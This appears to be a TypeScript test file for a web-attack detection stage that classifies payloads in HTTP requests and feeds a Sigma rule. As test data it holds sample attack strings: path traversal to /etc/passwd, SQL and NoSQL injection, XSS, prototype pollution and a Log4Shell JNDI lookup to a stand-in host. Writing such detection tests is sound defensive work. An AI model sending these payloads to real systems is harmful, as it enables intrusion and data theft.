// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the values under test are lookup and shell expressions, not templates
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { compileSigma } from '@vigil/engine';
import { Field, parseEvent, type SecurityEvent } from '@vigil/schema';
import { createPayloadStage } from './payload.js';

function event(type: string, attributes: SecurityEvent['attributes']): SecurityEvent {
  return { id: 'e1', time: Date.parse('2025-01-01T00:00:00Z'), type, attributes } as SecurityEvent;
}

describe('createPayloadStage', () => {
  const stage = createPayloadStage();

  test('finds payloads in the query, path, User-Agent and inspected parameters', () => {
    const input = event('http_request', {
      [Field.urlPath]: '/download/..%2f..%2fetc%2fpasswd',
      [Field.urlQuery]: "id=1'%20OR%20'1'%3D'1&page=2",
      [Field.userAgentOriginal]: '${jndi:ldap://x.example/a}',
      'vigil.inspect.body.user.name': '<svg onload=alert(1)>',
      'vigil.inspect.header.x-forwarded-host': 'ok.example',
    });
    const output = stage.apply(input);
    assert.deepEqual(output.attributes[Field.payloadClasses], ['jndi', 'path_traversal', 'sqli', 'xss']);
    assert.deepEqual(output.attributes[Field.payloadLocations], [
      'body.user.name',
      'header.user-agent',
      'path',
      'query.id',
    ]);
    assert.equal(input.attributes[Field.payloadClasses], undefined, 'input not mutated');
  });

  test('returns the same event when nothing is found or nothing applies', () => {
    const clean = event('http_request', { [Field.urlPath]: '/api/users/42', [Field.urlQuery]: 'q=red+shoes' });
    assert.equal(stage.apply(clean), clean);
    const login = event('authn_login_fail', { [Field.urlQuery]: "id=1' or 1=1--" });
    assert.equal(stage.apply(login), login, 'only http_request events and events with inspected params');
  });

  test('other event types are inspected when they carry inspected parameters', () => {
    const output = stage.apply(event('input_validation_fail', { 'vigil.inspect.query.user': '{"$ne":"x"}' }));
    assert.deepEqual(output.attributes[Field.payloadClasses], ['nosqli']);
    assert.deepEqual(output.attributes[Field.payloadLocations], ['query.user']);
  });

  test('operator and prototype objects as the SDK sends them (the object written out) are found', () => {
    // The field names and values the SDK's inspection writes for {"password": {"$ne": null}} and
    // {"user": {"__proto__": {"isAdmin": true}}}: valid event fields, so they reach this stage.
    const parsed = parseEvent({
      time: '2025-01-01T00:00:00Z',
      type: 'http_request',
      'http.request.method': 'POST',
      'url.path': '/login',
      'http.response.status_code': 200,
      'vigil.inspect.body.password': '{"$ne":"[REDACTED]"}',
      'vigil.inspect.body.user': '{"__proto__":{"isAdmin":true}}',
    });
    assert.ok(parsed.ok, JSON.stringify(parsed.ok ? [] : parsed.issues));
    const output = stage.apply(parsed.event);
    assert.deepEqual(output.attributes[Field.payloadClasses], ['nosqli', 'proto_pollution']);
    assert.deepEqual(output.attributes[Field.payloadLocations], ['body.password', 'body.user']);
  });

  test('options restrict classes and confidence', () => {
    const only = createPayloadStage({ classes: ['xss'] });
    const input = event('http_request', { [Field.urlQuery]: "id=1'%20or%201%3D1--" });
    assert.equal(only.apply(input), input);
    const strict = createPayloadStage({ minConfidence: 0.99 });
    assert.equal(strict.apply(input), input);
  });

  test('a Sigma rule matches vigil.payload.classes|contains: sqli', () => {
    const compiled = compileSigma([
      {
        source: 'payload-sqli.yml',
        text: [
          'title: SQL injection payload in a request',
          'id: 6f1c2a9e-0d4b-4e8a-9a51-6a3f1e2b7c10',
          'status: test',
          'level: high',
          'logsource:',
          '  category: webserver',
          'detection:',
          '  selection:',
          '    vigil.payload.classes|contains: sqli',
          '  condition: selection',
        ].join('\n'),
      },
    ]);
    assert.deepEqual(compiled.errors, []);
    const rule = compiled.evaluators[0];
    assert.ok(rule);
    const attack = stage.apply(event('http_request', { [Field.urlQuery]: "id=1'%20or%20'1'%3D'1" }));
    const clean = stage.apply(event('http_request', { [Field.urlQuery]: 'id=42' }));
    assert.equal(rule.process(attack).length, 1);
    assert.equal(rule.process(clean).length, 0);
  });
});
